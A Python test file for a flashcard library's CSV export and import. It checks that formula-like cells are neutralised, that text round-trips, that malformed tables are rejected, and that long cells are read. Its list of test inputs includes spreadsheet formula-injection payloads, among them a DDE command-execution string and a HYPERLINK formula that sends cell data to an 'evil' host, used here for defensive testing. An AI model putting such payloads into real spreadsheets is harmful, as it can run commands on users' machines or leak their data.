"""What our CSV must hold: no cell that a spreadsheet computes, and every text back as it was."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb import Library, limits
from kb.errors import BadData, UsageError
from kb.formats.book import Book
from kb.formats.tables import COLUMNS, read, write
from kb.formats.tabular import anki
from kb.formats.tabular import reading as tabular
from kb.formats.tabular.dialect import Dialect, Written
from kb.model.entry import Answer, Entry
from kb.model.results import silent
from kb.model.values import LAYERS
from tests.behind import batch, written
from tests.databases import new_library

WRITE_RAW = partial(write, raw=True)
COMPUTED = (
    "=1+1",
    "+1",
    "-5",
    "@SUM(A1)",
    "- list item",
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    '"=1',
    "  '\"=1",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    "\u00a0=1",
    "\u200f=1",
    "\ufeff=1",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
    "''=1",
    '=HYPERLINK("http://evil?"&A1)',
    "«=1»",
    "=۱+۱",
)
HARMLESS = ("'tis", "1-1", "a=b", "متن", "۱+۱", "'", "")
BEGINNINGS = st.sampled_from(
    [*COMPUTED, *HARMLESS, "'", "''", " ", "=", "\n", "\r\n", '"', ",", ";", "می\u200cشود"]
)
ANY = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12)
TEXT = st.builds("{}{}{}".format, BEGINNINGS, ANY, BEGINNINGS)
ASKED = TEXT.filter(str.strip)


def entry(question: str, **more: object) -> Entry:
    return Entry("x/1", "card", "x", {"en": question}, **more)  # type: ignore[arg-type]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


@pytest.mark.parametrize("text", COMPUTED)
def test_no_cell_begins_so_that_a_spreadsheet_computes_it(text: str) -> None:
    book = Book(
        (
            entry(
                f"{text}?",
                number=text,
                topic=text,
                tags=(text,),
                answers=(Answer("source", "en", text),),
            ),
        )
    )
    live = [
        cell
        for row in cells(written(write, book))
        for cell in row
        if cell[:1] in tuple("=+-@\t\r＝＋－＠")
    ]
    assert live == []
    marked = [cell for row in cells(written(write, book)) for cell in row if cell.startswith("'")]
    assert len(marked) >= 4


def test_the_control_has_live_cells_where_they_are_asked_for_raw() -> None:
    assert cells(written(WRITE_RAW, Book((entry("=1+1"),))))[0][8] == "=1+1"


@pytest.mark.parametrize("text", [each for each in HARMLESS if each])
def test_what_is_not_computed_is_left_as_it_is(text: str) -> None:
    assert cells(written(write, Book((entry(text),))))[0][8] == text


@pytest.mark.parametrize("writer", [write, WRITE_RAW])
@given(en=ASKED, fa=ASKED, source=TEXT, reference=TEXT, fact=TEXT, tags=st.lists(TEXT, max_size=3))
def test_any_text_comes_back_as_it_was(
    writer: object, en: str, fa: str, source: str, reference: str, fact: str, tags: list[str]
) -> None:
    answers = [
        ("source", "en", source),
        ("reference", "en", reference),
        ("source", "fa", reference),
    ]
    there = Entry(
        f"x/{fact}1",
        "card",
        fact,
        {"en": en, "fa": fa},
        number=fact or None,
        topic=fact or None,
        tags=tuple(tags),
        wording={"en": en},
        answers=tuple(Answer(*a) for a in answers if a[2]),
    )
    text = written(writer, Book((there, entry("another"))))  # type: ignore[arg-type]
    found = batch(read, text, "x.csv")
    assert found.bad == ()
    assert found.book.entries == (there, entry("another"))


@pytest.mark.long
def test_an_export_is_imported_again_with_its_ids_and_the_reader_told_what_is_not_taken(
    bundled: Library, tmp_path: Path
) -> None:
    file = tmp_path / "all.csv"
    bundled.export("csv", file)
    again = bundled.import_file(file)
    assert (again.added, again.updated, again.conflicts) == (0, 0, ())
    with new_library(tmp_path / "new.db") as other:
        report = other.import_file(file)
        assert report.added == bundled.list().total
        assert [each.text for each in report.dropped] == ["snippets", "verdicts"]
        for hit in bundled.list(limit=None).hits:
            here, there = bundled.show(hit.id), other.show(hit.id)
            assert (here.question, here.tags, here.wording) == (
                there.question,
                there.tags,
                there.wording,
            )
            for lang in here.languages:
                for role in ("source", "reference"):
                    assert here.text(role, lang) == there.text(role, lang)


@pytest.mark.long
def test_a_changed_cell_changes_the_text_and_nothing_that_the_table_does_not_hold(
    bundled: Library, tmp_path: Path
) -> None:
    file, whole = tmp_path / "all.csv", tmp_path / "all.json"
    bundled.export("csv", file)
    bundled.export("json", whole)
    with new_library(tmp_path / "new.db") as other:
        other.import_file(whole)
        assert other.import_file(file).updated == 0
        before = other.show("batch-norm-epsilon")
        text = file.read_text(encoding="utf-8")
        file.write_text(text.replace(f",{before.topic},", ",another topic,"), encoding="utf-8")
        report = other.import_file(file)
        assert (report.updated > 0, report.conflicts) == (True, ())
        after = other.show("batch-norm-epsilon")
    assert after.topic == "another topic"
    assert before.snippets and before.annotations
    assert (after.snippets, after.annotations, after.related, after.origins) == (
        before.snippets,
        before.annotations,
        before.related,
        before.origins,
    )


def refused(text: str) -> BadData:
    with pytest.raises(BadData) as caught:
        found = batch(read, text, "deck.csv")
        if found.bad:
            raise BadData(found.bad[0].reason)
    return caught.value


HEADER = ",".join(COLUMNS[: -len(LAYERS)])
"""The columns of older tables, which have no layers."""


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("front,back\na,b\n", "deck.csv:1: there is no column 'front'"),
        ("", "deck.csv:1: the column 'id' is missing"),
        (HEADER.replace(",lang", ""), "deck.csv:1: the column 'lang' is missing"),
        (f"{HEADER}\na,b\n", "deck.csv:2: has 2 cells instead of 15"),
        (
            f"{HEADER}\nx,card,,,,,,en,q,,,,,,\nx,card,,,,,,en,q,,,,,,\n",
            "deck.csv:3: lang: another row",
        ),
        (
            f"{HEADER}\nx,card,,,,,,en,q,,,,,,\nx,note,,,,,,fa,q,,,,,,\n",
            "deck.csv:3: kind: differs from another row",
        ),
        (
            f'{HEADER}\nx,card,,,,,,en,"q\n\nr,,,,,,\n',
            "deck.csv:2: from here on cells cannot be separated",
        ),
        (f"{HEADER}\n\n,card,,,,,,en,q,,,,,,\n", "deck.csv:3: id: is empty"),
        (f"{HEADER}\nx,crad,,,,,,en,q,,,,,,\n", "deck.csv:2: kind: unknown value 'crad'"),
    ],
)
def test_what_is_no_table_of_ours_is_refused_with_its_line(text: str, said: str) -> None:
    assert refused(text).message.startswith(said)


def test_a_misspelt_column_is_told_with_the_nearest_and_all_that_there_are() -> None:
    error = refused(HEADER.replace("collection", "colection"))
    assert all(column in error.message for column in COLUMNS)
    assert error.hint.startswith("Nearest: collection")


def test_raw_cells_are_of_tables_alone(bundled: Library) -> None:
    with pytest.raises(UsageError, match="'json' has no cells"):
        bundled.export("json", io.BytesIO(), raw_cells=True)
    out = io.BytesIO()
    bundled.export("csv", out, raw_cells=True)
    assert re.match(rb'"id","kind"', out.getvalue())


def test_a_cell_longer_than_python_reads_by_default_is_read() -> None:
    book = Book((entry("q" * 200_000),))
    assert batch(read, written(write, book), "x.csv").book.entries == book.entries


def _read_long(kind: str) -> Iterator[int]:
    """Yield the length of each row's longest cell, of three that the `csv` module would refuse."""
    long = "چ" * 200_000
    if kind == "anki":
        stream = io.BytesIO(f"a\tb\n{long}\t1\n{long}\t2\n".encode())
        found: Iterator[Any] = (row.cells for row in anki._Notes(stream, "t", silent).rows())
    else:
        stream = io.BytesIO(f"a,b\n{long},1\n{long},2\n".encode())
        form = Written("utf-8", Dialect(","), False)
        found = (row.cells for row in tabular.rows_in(stream, form, "t"))
    for row in found:
        yield max(map(len, row))


KINDS = ("anki", "tabular")


@pytest.fixture
def low_limit() -> Iterator[None]:
    before = csv.field_size_limit(131_072)
    yield
    csv.field_size_limit(before)


@pytest.mark.parametrize("one", KINDS)
@pytest.mark.parametrize("other", KINDS)
def test_two_readers_of_long_cells_do_not_meet(one: str, other: str, low_limit: None) -> None:
    first, second = _read_long(one), _read_long(other)
    assert next(first) == next(second) == 1
    assert list(second)[-1] == 200_000
    assert list(first)[-1] == 200_000


def test_readers_of_long_cells_in_two_threads_leave_no_smaller_limit(low_limit: None) -> None:
    first, second = _read_long("anki"), _read_long("tabular")
    with ThreadPoolExecutor(2) as pool:
        for reader in (first, second):  # each begins before the other ends
            assert pool.submit(next, reader).result() == 1
        assert pool.submit(list, first).result()[-1] == 200_000
        assert pool.submit(list, second).result()[-1] == 200_000
    assert csv.field_size_limit() > limits.RECORD


def test_a_row_of_many_lines_is_bounded_whatever_the_limit_of_csv() -> None:
    line = "x" * (1 << 20) + "\n"
    stream = io.BytesIO(f'a,b\n"{line * 9}",1\n'.encode())
    with pytest.raises(BadData, match=r"t\.csv:\d: this row has more than 8 MiB"):
        list(tabular.rows_in(stream, Written("utf-8", Dialect(","), False), "t.csv"))
